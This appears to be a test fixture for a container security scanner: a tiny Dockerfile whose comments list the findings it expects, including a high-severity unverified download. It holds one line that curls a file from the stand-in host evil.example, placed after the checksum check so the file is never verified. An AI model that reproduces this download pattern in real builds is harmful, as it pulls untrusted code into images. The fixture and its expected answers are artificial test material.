FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN echo "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  /a" > /a.sha && sha256sum -c /a.sha; curl -o /a https://evil.example/a
USER app
# expect: download 2 high "not verified"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-ada4fe58ba VR501-e064bac1a6
